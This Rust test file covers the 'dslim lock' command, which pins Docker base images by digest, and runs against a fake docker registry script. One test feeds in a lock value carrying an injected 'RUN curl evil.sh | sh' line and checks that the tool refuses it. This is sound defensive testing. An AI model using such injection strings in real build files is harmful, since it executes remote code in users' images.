//! `dslim lock` and dslim.lock: base images pinned by digest. The registry is a stand-in
//! `docker` that answers `buildx imagetools inspect` as Docker does; e2e.rs resolves against
//! a real registry.

mod common;

use common::Test;

const API: &str = "app \"api\" {\n    python \"3.13\"\n    port 8000\n    entrypoint \"gunicorn\" \"--bind\" \"0.0.0.0:8000\" \"app:app\"\n}\n";

fn digest(c: char) -> String {
    format!("sha256:{}", c.to_string().repeat(64))
}

/// A `docker` whose registry has every tag at an index of `index` (amd64 and arm64, and an
/// attestation manifest, as Docker Hub's images have), logging each reference it is asked.
fn registry(index: char) -> String {
    format!(
        r#"[ "$1 $2 $3" = "buildx imagetools inspect" ] || exit 3
echo "$6" >> "$(dirname "$0")/asked"
cat <<EOF
{{"mediaType": "application/vnd.oci.image.index.v1+json", "digest": "{}", "manifests": [
  {{"digest": "{}", "platform": {{"os": "linux", "architecture": "amd64"}}}},
  {{"digest": "{}", "platform": {{"os": "linux", "architecture": "arm64", "variant": "v8"}}}},
  {{"digest": "{}", "platform": {{"os": "unknown", "architecture": "unknown"}}}}
]}}
EOF"#,
        digest(index),
        digest('a'),
        digest('b'),
        digest('c')
    )
}

fn api() -> Test {
    Test::new()
        .recipe(API)
        .file("requirements.txt", "gunicorn\n")
}

#[test]
fn lock_pins_each_image_with_its_platforms_and_generate_builds_from_the_digests() {
    let out = api()
        .fake_docker(&registry('1'))
        .args(&["lock"])
        .stderr_has(
            "pinned python:3.13-slim-trixie sha256:111111111111 (linux/amd64, linux/arm64/v8)",
        )
        .stderr_has("created ./dslim.lock")
        .run();
    let lock = out.file("dslim.lock");
    assert!(lock.contains(&format!(
        "image \"python:3.13-slim-trixie\" digest=\"{}\" {{\n    platform \"linux/amd64\" digest=\"{}\"\n    platform \"linux/arm64/v8\" digest=\"{}\"\n}}\n",
        digest('1'),
        digest('a'),
        digest('b')
    )), "{lock}");
    assert!(
        !lock.contains("unknown"),
        "attestations are no platform:\n{lock}"
    );
    // builder and runtime share the image: one entry, one question to the registry
    assert_eq!(lock.matches("image ").count(), 1, "{lock}");
    assert_eq!(out.file("bin/asked"), "python:3.13-slim-trixie\n");

    let generated = out.again(&["generate"]);
    assert!(generated.status.success());
    let dockerfile = out.file("Dockerfile");
    let pinned = format!("FROM python:3.13-slim-trixie@{} AS", digest('1'));
    assert_eq!(dockerfile.matches(&pinned).count(), 2, "{dockerfile}");
    assert!(out.file(".dockerignore").contains("\ndslim.lock\n"));
    assert!(out.again(&["check"]).status.success());
}

#[test]
fn a_pinned_digest_stays_until_lock_update_moves_it() {
    let test = api().fake_docker(&registry('1'));
    let out = test.args(&["lock"]).run();
    let first = out.file("dslim.lock");
    // the tag moves in the registry
    std::fs::write(
        out.dir.path().join("bin/docker"),
        format!("#!/bin/sh\n{}\n", registry('2')),
    )
    .unwrap();
    let again = out.again(&["lock"]);
    assert!(String::from_utf8_lossy(&again.stderr).contains("unchanged ./dslim.lock"));
    assert_eq!(out.file("dslim.lock"), first);

    let update = out.again(&["lock", "--update"]);
    let stderr = String::from_utf8_lossy(&update.stderr);
    assert!(
        stderr.contains("moved python:3.13-slim-trixie sha256:111111111111 -> sha256:222222222222"),
        "{stderr}"
    );
    assert!(out.file("dslim.lock").contains(&digest('2')));
    assert!(stderr.contains("run `dslim generate`"), "{stderr}");

    // nothing moved since: said so, and nothing to regenerate
    let current = out.again(&["lock", "--update"]);
    let stderr = String::from_utf8_lossy(&current.stderr);
    assert!(
        stderr.contains("current python:3.13-slim-trixie sha256:222222222222"),
        "{stderr}"
    );
    assert!(stderr.contains("unchanged ./dslim.lock"), "{stderr}");
    assert!(!stderr.contains("dslim generate"), "{stderr}");
}

#[test]
fn a_single_manifest_image_is_pinned_to_its_manifest_and_platform() {
    let docker = format!(
        r#"case "$5" in
  *Manifest*) echo '{{"mediaType": "application/vnd.docker.distribution.manifest.v2+json", "digest": "{}"}}' ;;
  *Image*) echo '{{"architecture": "amd64", "os": "linux", "config": {{}}}}' ;;
esac"#,
        digest('d')
    );
    let out = api().fake_docker(&docker).args(&["lock"]).run();
    assert!(out.file("dslim.lock").contains(&format!(
        "digest=\"{0}\" {{\n    platform \"linux/amd64\" digest=\"{0}\"\n}}",
        digest('d')
    )));
}

#[test]
fn check_fails_on_a_lock_that_misses_an_image_or_pins_one_no_longer_used() {
    let lock = format!(
        "version 1\nimage \"python:3.12-slim-trixie\" digest=\"{}\" {{\n}}\n",
        digest('1')
    );
    let out = api()
        .fake_docker(&registry('1'))
        .file("dslim.lock", &lock)
        .args(&["generate"])
        .run();
    // generate warns and leaves the unpinned image as it is
    assert!(out
        .stderr
        .contains("warning: dslim.lock pins no digest for python:3.13-slim-trixie"));
    assert!(out
        .file("Dockerfile")
        .contains("FROM python:3.13-slim-trixie AS"));
    let check = out.again(&["check"]);
    let stderr = String::from_utf8_lossy(&check.stderr);
    assert_eq!(check.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("dslim.lock pins no digest for python:3.13-slim-trixie"));
    assert!(
        stderr.contains("[./dslim.kdl:2:12]"),
        "the recipe's version:\n{stderr}"
    );
    assert!(stderr.contains(
        "dslim.lock pins python:3.12-slim-trixie, which the recipe no longer builds from"
    ));
    assert!(
        stderr.contains("[./dslim.lock:2:7]"),
        "the lock's entry:\n{stderr}"
    );
    // `dslim lock` mends it, and names what it drops
    let locked = out.again(&["lock"]);
    let stderr = String::from_utf8_lossy(&locked.stderr);
    assert!(
        stderr.contains("dropped python:3.12-slim-trixie (the recipe no longer builds from it)"),
        "{stderr}"
    );
    std::fs::write(out.dir.path().join("dslim.lock"), &lock).unwrap();
    let listed = out.again(&["list", "--json"]);
    let listed: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
    assert_eq!(
        listed[0]["state"], "stale",
        "list sees the stale lock as check does"
    );
    let json = out.again(&["check", "--json"]);
    let report: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(report["recipes"][0]["state"], "stale");
    assert_eq!(report["recipes"][0]["errors"][1]["file"], "./dslim.lock");
}

#[test]
fn a_lock_without_its_format_or_with_it_quoted_gets_one_error_each() {
    api()
        .file(
            "dslim.lock",
            "image \"python:3.13-slim-trixie\" digest=\"sha256:x\"\n",
        )
        .args(&["generate"])
        .status(2)
        .stderr_has("dslim.lock does not say its format")
        .stderr_has("no `version` line")
        .stderr_has("start it with `version 1`")
        .stderr_has("`dslim lock --update` writes the digests the registry has now")
        .run();
    let quoted = api()
        .file("dslim.lock", "version \"1\"\n")
        .args(&["generate"])
        .status(2)
        .run();
    assert!(
        !quoted.stderr.contains("does not say its format"),
        "{}",
        quoted.stderr
    );
}

#[test]
fn a_lock_from_a_newer_dslim_is_refused_not_misread() {
    api()
        .file(
            "dslim.lock",
            "version 2\nimage \"python:3.13-slim-trixie\" sha256=\"x\"\n",
        )
        .args(&["generate"])
        .status(2)
        .stderr_has("dslim.lock was written by a newer dslim (format 2)")
        .stderr_has("[./dslim.lock:1:9]")
        .stderr_has("this dslim reads format 1")
        .run();
}

#[test]
fn a_lock_value_that_could_inject_an_instruction_is_refused_at_its_line() {
    let lock = format!(
        "version 1\nimage \"python:3.13-slim-trixie\" digest=\"{}\\nRUN curl evil.sh | sh\"\n",
        digest('1')
    );
    let out = api()
        .file("dslim.lock", &lock)
        .args(&["generate"])
        .status(2)
        .stderr_has("`image` expects a content digest like sha256:<64 hex digits>")
        .stderr_has("[./dslim.lock:2:")
        .run();
    assert!(!out.dir.path().join("Dockerfile").exists());
    // --update writes a broken lock anew
    api()
        .file("dslim.lock", "version 1\nimage\n")
        .fake_docker(&registry('1'))
        .args(&["lock", "--update"])
        .stderr_has("updated ./dslim.lock")
        .run();
}

#[test]
fn an_image_the_registry_does_not_have_is_named() {
    api()
        .fake_docker("echo 'ERROR: python:3.13-slim-trixie: not found' >&2; exit 1")
        .args(&["lock"])
        .status(1)
        .stderr_has("cannot resolve the image python:3.13-slim-trixie: not found")
        .stderr_has("docker login")
        .run();
}

#[test]
fn lock_in_a_workspace_locks_every_member_asking_once_per_image() {
    let out = Test::new()
        .file(
            "dslim.kdl",
            "workspace \"shop\" {\n    members \"services/*\"\n}\n",
        )
        .file("services/api/dslim.kdl", API)
        .file("services/api/requirements.txt", "gunicorn\n")
        .file(
            "services/jobs/dslim.kdl",
            &API.replace("\"api\"", "\"jobs\"").replace("8000", "8001"),
        )
        .file("services/jobs/requirements.txt", "gunicorn\n")
        .fake_docker(&registry('1'))
        .args(&["lock"])
        .run();
    for member in ["api", "jobs"] {
        assert!(out
            .file(&format!("services/{member}/dslim.lock"))
            .contains(&digest('1')));
    }
    assert_eq!(out.file("bin/asked"), "python:3.13-slim-trixie\n");
}
